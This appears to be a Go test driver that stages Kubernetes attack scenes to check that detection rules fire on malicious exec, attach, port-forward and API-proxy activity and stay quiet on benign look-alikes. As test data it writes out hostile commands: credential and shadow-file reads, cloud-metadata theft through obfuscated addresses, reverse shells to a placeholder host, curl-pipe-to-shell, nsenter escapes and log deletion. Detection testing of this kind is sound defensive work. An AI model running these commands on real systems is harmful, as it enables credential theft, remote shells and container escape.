package main

import (
	"context"
	"net/http"
)

// attackCommands acts out the rules about what is run in pods, by whom and where, and what is reached through proxies.
func (d *driver) attackCommands() {
	system := at("v1", "pods", "kube-system", d.aPod("kube-system", "app=metrics-applied"))
	reporter := d.serviceAccount("lab", "reporter", "python-requests/2.32.4", "127.0.0.160")
	// both plays a command over both protocols, whole and inside of a shell.
	both := func(s scene, what, command string) {
		s.fires(what+"-websocket", d.mallory).exec(websocket, victim, "sh", "-c", command)
		s.fires(what+"-spdy", d.mallory).exec(spdyPost, victim, "/bin/bash", "-c", command)
	}
	near := func(s scene, command string) {
		s.quiet("another-command", d.mallory).exec(websocket, victim, "ls", "-l", "/srv")
		s.quiet("another-shell", d.mallory).exec(spdyPost, victim, "sh", "-c", "ls /srv && uname -a")
		s.quiet("refused-websocket", d.alice).refused().exec(websocket, victim, "sh", "-c", command)
		s.quiet("refused-spdy", d.alice).refused().exec(spdyPost, victim, "sh", "-c", command)
		s.quiet("no-such-pod", d.mallory).answers(http.StatusNotFound).exec(websocket, at("v1", "pods", "lab", "nobody"), "sh", "-c", command)
	}

	s := d.scene("Credential File Read by Exec")
	both(s, "shadow", "cat /etc/shadow")
	s.fires("environ", d.mallory).exec(websocket, victim, "cat", "/proc/1/environ")
	s.fires("ssh-key", d.mallory).exec(spdyPost, victim, "head", "/home/app/.ssh/id_ed25519")
	s.fires("kubeconfig", d.mallory).exec(websocket, victim, "cat", "/etc/kubernetes/admin.conf")
	s.fires("cloud", d.mallory).exec(websocket, victim, "tar", "cf", "-", "/root/.aws/")
	near(s, "cat /etc/shadow")

	s = d.scene("Cloud Metadata Reached by Exec")
	both(s, "address", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
	s.fires("decimal", d.mallory).exec(websocket, victim, "wget", "-qO-", "http://2852039166/")
	s.fires("hexadecimal", d.mallory).exec(websocket, victim, "curl", "http://0xA9FEA9FE/")
	s.fires("ipv6", d.mallory).exec(spdyPost, victim, "curl", "http://[fd00:ec2::254]/latest/")
	s.fires("name", d.mallory).exec(spdyPost, victim, "curl", "-H", "Metadata-Flavor: Google", "http://METADATA.google.internal/computeMetadata/v1/")
	near(s, "curl http://169.254.169.254/")
	s.quiet("another-address", d.mallory).exec(websocket, victim, "curl", "http://10.96.0.10/")

	s = d.scene("Reverse Shell Through Exec")
	both(s, "tcp", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1")
	s.fires("netcat", d.mallory).exec(websocket, victim, "nc", "-e", "/bin/sh", "192.0.2.9", "4444")
	s.fires("socat", d.mallory).exec(spdyPost, victim, "socat", "TCP:192.0.2.9:4444", "EXEC:/bin/sh,pty")
	s.fires("python", d.mallory).exec(websocket, victim, "python3", "-c", "import socket,os;s=socket.socket();s.connect(('192.0.2.9',4444));os.dup2(s.fileno(),0)")
	s.fires("downloaded", d.mallory).exec(websocket, victim, "sh", "-c", "curl -s http://192.0.2.9/x|sh")
	s.fires("base64", d.mallory).exec(websocket, victim, "sh", "-c", "echo aWQK | base64 -d | bash")
	near(s, "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1")
	s.quiet("netcat-listening", d.mallory).exec(websocket, victim, "nc", "-z", "localhost", "8080")

	s = d.scene("Cluster or Escape Tool Run in Pod")
	both(s, "nsenter", "nsenter -t 1 -m -u -i -n")
	s.fires("kubectl", d.mallory).exec(websocket, victim, "kubectl", "get", "nodes")
	s.fires("path", d.mallory).exec(spdyPost, victim, "/usr/local/bin/crictl", "ps")
	s.fires("env", d.mallory).exec(websocket, victim, "sh", "-c", "env")
	s.fires("mount", d.mallory).exec(websocket, victim, "mount", "/dev/sda1", "/mnt")
	s.fires("history", d.mallory).exec(websocket, victim, "sh", "-c", "rm -f ~/.bash_history")
	s.fires("logs-removed", d.mallory).exec(websocket, victim, "sh", "-c", "rm -rf /var/log/app")
	near(s, "nsenter -t 1 -m")
	s.quiet("logs-read", d.mallory).exec(websocket, victim, "tail", "/var/log/app.log")

	s = d.scene("Download Tool Run in Pod")
	both(s, "curl", "curl -sLo /tmp/x http://192.0.2.9/x")
	s.fires("wget", d.mallory).exec(websocket, victim, "wget", "http://192.0.2.9/x?a=1&b=2")
	s.fires("path", d.mallory).exec(spdyPost, victim, "/usr/bin/curl", "192.0.2.9/x")
	near(s, "wget http://192.0.2.9/x")

	s = d.scene("Shell in Pod")
	s.fires("websocket-terminal", d.mallory).with("stdin", "true").with("tty", "true").exec(websocket, victim, "/bin/bash")
	s.fires("spdy-terminal", d.mallory).with("stdin", "true").with("tty", "true").exec(spdyPost, victim, "sh")
	s.fires("script", d.mallory).exec(websocket, victim, "sh", "-c", "uname -a && cat /etc/hostname")
	s.fires("through-timeout", d.mallory).exec(websocket, victim, "timeout", "60", "bash")
	s.fires("another-program-with-terminal", d.mallory).with("stdin", "true").with("tty", "true").exec(websocket, victim, "python3")
	s.fires("attached-with-terminal", d.mallory).with("container", "app").with("stdin", "true").with("tty", "true").attach(websocket, victim)
	s.quiet("no-shell", d.mallory).exec(websocket, victim, "ls", "/bin/sh")
	s.quiet("attached", d.mallory).attach(websocket, victim)
	s.quiet("refused-websocket", d.alice).refused().with("stdin", "true").with("tty", "true").exec(websocket, victim, "sh")
	s.quiet("refused-spdy", d.alice).refused().with("stdin", "true").with("tty", "true").exec(spdyPost, victim, "sh")

	s = d.scene("Files Copied Through Exec")
	s.fires("out", d.mallory).exec(websocket, victim, "tar", "cf", "-", "/data/export")
	s.fires("into", d.mallory).with("stdin", "true").exec(spdyPost, victim, "tar", "-xmf", "-", "-C", "/tmp")
	s.fires("through-a-shell", d.mallory).exec(websocket, victim, "sh", "-c", "tar cf - /data | gzip")
	s.quiet("tar-within", d.mallory).exec(websocket, victim, "tar", "cf", "/tmp/x.tar", "/data")
	s.quiet("another-command", d.mallory).exec(websocket, victim, "ls", "-l", "/data")
	s.quiet("refused", d.alice).refused().exec(websocket, victim, "tar", "cf", "-", "/data")

	s = d.scene("Exec or Attach in Kube Namespace")
	s.fires("exec-websocket", d.admin).exec(websocket, system, "ls", "/")
	s.fires("exec-spdy", d.mallory).exec(spdyPost, system, "sh")
	s.fires("attach", d.admin).attach(spdyPost, system)
	s.quiet("in-own-namespace", d.admin).exec(websocket, victim, "ls", "/")
	s.quiet("refused", d.alice).refused().exec(websocket, system, "ls", "/")
	s.quiet("logs", d.admin).get(system + "/log")

	s = d.scene("Exec by Service Account or Node")
	s.fires("websocket", reporter).exec(websocket, victim, "ls")
	s.fires("spdy", reporter).exec(spdyPost, victim, "id")
	s.quiet("by-a-person", d.mallory).exec(websocket, victim, "ls")
	s.quiet("no-rights-elsewhere", reporter).refused().exec(websocket, system, "ls")
	s.quiet("pod-read", reporter).get(victim)

	s = d.scene("Port-Forward to System Pod or Data Store")
	s.fires("system-websocket", d.admin).forward(websocket, system)
	s.fires("system-spdy", d.mallory).forward(spdyPost, system)
	s.fires("database-port", d.mallory).with("ports", "5432").forward(websocket, victim)
	s.quiet("another-port", d.mallory).with("ports", "8080").forward(websocket, victim)
	s.quiet("no-port", d.mallory).forward(spdyPost, victim)
	s.quiet("refused", d.alice).refused().forward(websocket, system)

	s = d.scene("Pod or Service Reached Through API Server Proxy")
	d.as(d.mallory).create(object("v1", "Pod", "lab", "proxied", map[string]any{"metadata": piece(`{labels: {app: proxied}}`), "spec": piece(plainPod)}))
	d.as(d.mallory).create(service("lab", "proxied", `{selector: {app: proxied}, ports: [{port: 8080}]}`))
	podProxy, serviceProxy := at("v1", "pods", "lab", "victim:8080", "proxy"), at("v1", "services", "lab", "proxied:8080", "proxy")
	d.await("service lab/proxied", func(ctx context.Context) error {
		return d.admin.clients.CoreV1().RESTClient().Get().AbsPath(serviceProxy + "/").Do(ctx).Error()
	})
	s.fires("pod", d.mallory).get(podProxy + "/admin")
	s.fires("pod-post", d.mallory).send(http.MethodPost, podProxy+"/", "application/json", []byte(`{}`))
	s.fires("pod-by-admin", d.admin).get(podProxy + "/")
	s.fires("service", d.mallory).get(serviceProxy + "/admin")
	s.quiet("service-read", d.mallory).get(at("v1", "services", "lab", "proxied"))
	s.quiet("pod-read", d.mallory).get(victim)
	s.quiet("refused", d.alice).refused().get(podProxy + "/")
	s.quiet("node-proxy", d.mallory).get(at("v1", "nodes", "", nodeName, "proxy") + "/pods")

	s = d.scene("Exec Attach or Port-Forward Refused")
	s.fires("exec-websocket", d.alice).refused().exec(websocket, victim, "id")
	s.fires("exec-spdy", d.alice).refused().exec(spdyPost, victim, "id")
	s.fires("attach", d.alice).refused().attach(websocket, victim)
	s.fires("port-forward", d.alice).refused().forward(spdyPost, victim)
	s.fires("ephemeral-container", d.alice).refused().patch(strategicPatch, victim+"/ephemeralcontainers", `{spec: {ephemeralContainers: [{name: d, image: "registry.example.com/tools:1"}]}}`)
	s.quiet("allowed", d.mallory).exec(websocket, victim, "id")
	s.quiet("pod-read-refused", d.alice).refused().get(victim)
	s.quiet("no-such-pod", d.mallory).answers(http.StatusNotFound).exec(websocket, at("v1", "pods", "lab", "nobody"), "id")

	s = d.scene("Proxy to Node Pod or Service Refused")
	s.fires("node", d.alice).refused().get(at("v1", "nodes", "", nodeName, "proxy") + "/pods")
	s.fires("pod", d.alice).refused().get(podProxy + "/")
	s.fires("service", d.alice).refused().get(serviceProxy + "/")
	s.quiet("allowed", d.mallory).get(podProxy + "/")
	s.quiet("node-read-refused", d.alice).refused().get(at("v1", "nodes", "", nodeName))
}
